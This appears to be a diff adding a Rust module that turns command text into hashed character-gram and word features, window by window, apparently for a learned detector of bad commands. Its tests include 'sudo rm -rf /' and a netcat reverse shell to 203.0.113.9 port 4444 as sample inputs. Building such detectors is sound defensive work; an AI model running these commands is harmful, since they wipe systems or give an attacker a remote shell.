@@ -1,0 +1,150 @@
+//! Commands and code as short runs of characters, for the learned table: what a program is called, how its options and
+//! paths are spelt, and what stands next to what.
+//!
+//! A text is read in lower case with every run of white space as one space. Its grams are the runs of 3, 4 and 5 bytes, and
+//! its words: runs of letters, digits and underscores. Each counts once. Long texts are read window by window, so that one
+//! bad line does not drown.
+
+/// Buckets of grams; a power of two.
+pub(super) const BUCKETS: usize = 1 << 16;
+/// Bytes of one window.
+const WINDOW: usize = 1_024;
+/// Bytes before the end of a window from which a space ends it.
+const SLACK: usize = 128;
+
+/// A set of grams.
+struct Grams {
+    bits: Box<[u64]>,
+    count: u32,
+}
+
+impl Grams {
+    fn add(&mut self, hash: u32) -> Option<usize> {
+        // The product spreads what differs in few bits (Knuth, The Art of Computer Programming 3, 6.4).
+        let bucket = (hash.wrapping_mul(0x9e37_79b1) >> (32 - BUCKETS.trailing_zeros())) as usize;
+        let (word, bit) = (&mut self.bits[bucket / 64], 1 << (bucket % 64));
+        if *word & bit != 0 {
+            return None;
+        }
+        *word |= bit;
+        self.count += 1;
+        Some(bucket)
+    }
+}
+
+/// Calls `each` with the buckets of each window of the texts, which count as one text.
+pub(super) fn windows<'t>(texts: impl Iterator<Item = &'t str>, mut each: impl FnMut(&[u16])) {
+    let mut line: Vec<u8> = Vec::with_capacity(WINDOW + 8);
+    let mut buckets: Vec<u16> = Vec::with_capacity(4 * WINDOW);
+    let mut grams = Grams { bits: vec![0; BUCKETS / 64].into_boxed_slice(), count: 0 };
+    let mut flush = |line: &mut Vec<u8>| {
+        if line.len() > 1 {
+            line.push(b' ');
+            fill(line, &mut grams, &mut buckets);
+            each(&buckets);
+            // What was set is fewer than all.
+            buckets.drain(..).for_each(|bucket| grams.bits[usize::from(bucket) / 64] = 0);
+            grams.count = 0;
+        }
+        line.clear();
+        line.push(b' ');
+    };
+    line.push(b' ');
+    for text in texts {
+        for byte in text.bytes().chain([b' ']) {
+            let is_space = byte.is_ascii_whitespace();
+            if line.len() >= WINDOW || is_space && line.len() >= WINDOW - SLACK {
+                flush(&mut line);
+            }
+            match (is_space, line.last()) {
+                (true, Some(b' ')) => {}
+                (true, _) => line.push(b' '),
+                (false, _) => line.push(byte.to_ascii_lowercase()),
+            }
+        }
+    }
+    if line.last() == Some(&b' ') && line.len() > 1 {
+        line.pop();
+    }
+    flush(&mut line);
+}
+
+/// FNV-1a (Fowler, Noll, Vo; 32 bits), a step.
+fn step(hash: u32, byte: u8) -> u32 {
+    (hash ^ u32::from(byte)).wrapping_mul(0x0100_0193)
+}
+
+const START: u32 = 0x811c_9dc5;
+/// Words begin elsewhere, so that a word of four letters is another gram than its letters.
+const WORD: u32 = START ^ 0x5a5a_5a5a;
+
+fn fill(line: &[u8], grams: &mut Grams, buckets: &mut Vec<u16>) {
+    let mut add = |hash: u32| {
+        if let Some(bucket) = grams.add(hash) {
+            buckets.push(bucket as u16);
+        }
+    };
+    let three = |run: &[u8]| run.iter().fold(START, |hash, byte| step(hash, *byte));
+    for run in line.windows(5) {
+        let hash = three(&run[..3]);
+        add(hash);
+        let hash = step(hash, run[3]);
+        add(hash);
+        add(step(hash, run[4]));
+    }
+    // What is left at the end, or all of a short text.
+    for at in line.len().saturating_sub(4)..line.len().saturating_sub(2) {
+        let mut hash = three(&line[at..at + 3]);
+        add(hash);
+        if let Some(byte) = line.get(at + 3) {
+            hash = step(hash, *byte);
+            add(hash);
+        }
+    }
+    let mut word = WORD;
+    for byte in line {
+        if byte.is_ascii_alphanumeric() || *byte == b'_' || *byte >= 0x80 {
+            word = step(word, *byte);
+        } else if word != WORD {
+            add(std::mem::replace(&mut word, WORD));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn all(texts: &[&str]) -> Vec<Vec<u16>> {
+        let mut found = Vec::new();
+        windows(texts.iter().copied(), |buckets| {
+            let mut buckets = buckets.to_vec();
+            buckets.sort_unstable();
+            found.push(buckets);
+        });
+        found
+    }
+
+    #[test]
+    fn spelling_counts_once_and_spaces_do_not() {
+        assert_eq!(all(&["Sudo  rm\n-rf /"]), all(&["sudo rm -rf /"]));
+        assert_eq!(all(&["a b", "c"]), all(&["a b c"]));
+        let twice = all(&["ab ab ab ab"]);
+        assert_eq!(twice, all(&["ab ab ab ab ab"]));
+        // ` ab`, `ab `, ` ab `, `b a`, `ab a`, ` ab a`, `b ab`, `ab ab`, `b ab ` and the word.
+        assert_eq!(twice[0].len(), 10);
+        assert!(all(&[""]).is_empty() && all(&[" \n"]).is_empty());
+        assert_eq!(all(&["x"]).len(), 1);
+    }
+
+    #[test]
+    fn long_texts_are_read_in_windows() {
+        let line = "grep -rn timeout src/*.rs; ".repeat(200);
+        let found = all(&[&line]);
+        assert!(found.len() > 4 && found.len() < 8, "{}", found.len());
+        let bad = format!("{line} nc -e /bin/sh 203.0.113.9 4444 {line}");
+        let without = &found[0];
+        assert!(all(&[&bad]).iter().any(|window| window.len() > without.len()));
+        assert!(all(&[&"x".repeat(5_000)]).len() >= 5);
+    }
+}
